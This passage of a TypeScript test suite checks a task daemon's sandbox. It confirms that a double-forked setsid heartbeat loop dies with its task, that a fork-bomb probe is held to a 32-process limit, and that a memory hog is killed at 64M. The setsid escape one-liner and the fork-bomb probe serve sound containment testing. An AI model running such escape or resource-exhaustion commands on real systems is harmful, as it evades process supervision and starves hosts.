  test('a double-forked setsid child does not outlive its task when the task is killed', async () => {
    const workspace = newWorkspace()
    const heartbeat = join(workspace, 'heartbeat')
    const started = await daemon.client.start({
      command: `setsid sh -c '( while :; do date +%s%N > heartbeat; sleep 0.05; done ) &' ; exec sleep 600`,
      shell: true,
      cwd: workspace,
      sandbox: 'workspace',
    })
    taskIds.push(started.id)
    await waitFor('the survivor to write its heartbeat', () => existsSync(heartbeat) && Date.now() - statSync(heartbeat).mtimeMs < 500)
    const task = await daemon.client.kill(started.id)
    expect(task.state).toBe('killed')
    await expectHeartbeatStopped(task.id, heartbeat)
  })

  async function expectHeartbeatStopped(id: string, heartbeat: string): Promise<void> {
    await waitFor(`no process of task ${id} left`, () => processesWithEnv(`TEND_TASK_ID=${id}`).filter(isAlive).length === 0)
    // A live writer refreshes it every 50 ms; it must go stale and stay at its last value.
    const last = readFileSync(heartbeat, 'utf8')
    await waitFor('the heartbeat to go stale', () => Date.now() - statSync(heartbeat).mtimeMs > 500, 5000)
    expect(readFileSync(heartbeat, 'utf8')).toBe(last)
  }
})

describe('strict limits', () => {
  strictTest(`a fork bomb with pidsMax 32 is contained, and the reason records the process limit`, async () => {
    const started = await daemon.client.start({
      command: `${PYTHON} ${q(join(probes, 'bomb.py'))}`,
      shell: true,
      cwd: newWorkspace(),
      sandbox: 'strict',
      pidsMax: 32,
      timeoutMs: 3000,
    })
    taskIds.push(started.id)
    expect(started).toMatchObject({ sandbox: 'strict', pidsMax: 32 })
    const marker = `TEND_TASK_ID=${started.id}`
    let most = 0
    const hostSpawns: Array<number | null> = []
    const ended = await waitFor(
      'the fork bomb to be stopped by its timeout',
      async () => {
        most = Math.max(most, processesWithEnv(marker).filter(isAlive).length)
        // The host can still start processes while the bomb runs.
        hostSpawns.push(spawnSync('true').status)
        const task = await daemon.client.get(started.id)
        return task.state !== 'running' && task.state !== 'queued' ? task : null
      },
      20_000,
    )
    expect(hostSpawns.length).toBeGreaterThan(0)
    expect(hostSpawns.filter((code) => code !== 0)).toEqual([])
    expect(most).toBeGreaterThan(10)
    expect(most).toBeLessThanOrEqual(32)
    expect(ended.state).toBe('timed_out')
    expect(ended.reason).toBe('timed out after 3s; process limit of 32 reached')
    await waitFor(`no process of the fork bomb left`, () => processesWithEnv(marker).filter(isAlive).length === 0)
    expect(existsSync(taskGroup('pids', started.id))).toBe(false)
  })

  strictTest(`a memory hog with memoryBytes 64M is killed, and the reason records the memory limit`, async () => {
    const { task } = await attempt(`${PYTHON} ${q(join(probes, 'hog.py'))}`, { sandbox: 'strict', memoryBytes: 64 * 1024 * 1024 })
    expect(task).toMatchObject({ state: 'killed', signal: 'SIGKILL', reason: 'memory limit of 64M reached', memoryBytes: 64 * 1024 * 1024 })
    expect(existsSync(taskGroup('memory', task.id))).toBe(false)
    expect((await daemon.client.status()).pid).toBe(daemonPid)
  })

  strictTest(`strict tasks record the default limits when they give none`, async () => {
    const { task } = await attempt('true', { sandbox: 'strict' })
    expect(task).toMatchObject({ state: 'exited', sandbox: 'strict', memoryBytes: 2 * 1024 ** 3, pidsMax: 512 })
  })
})
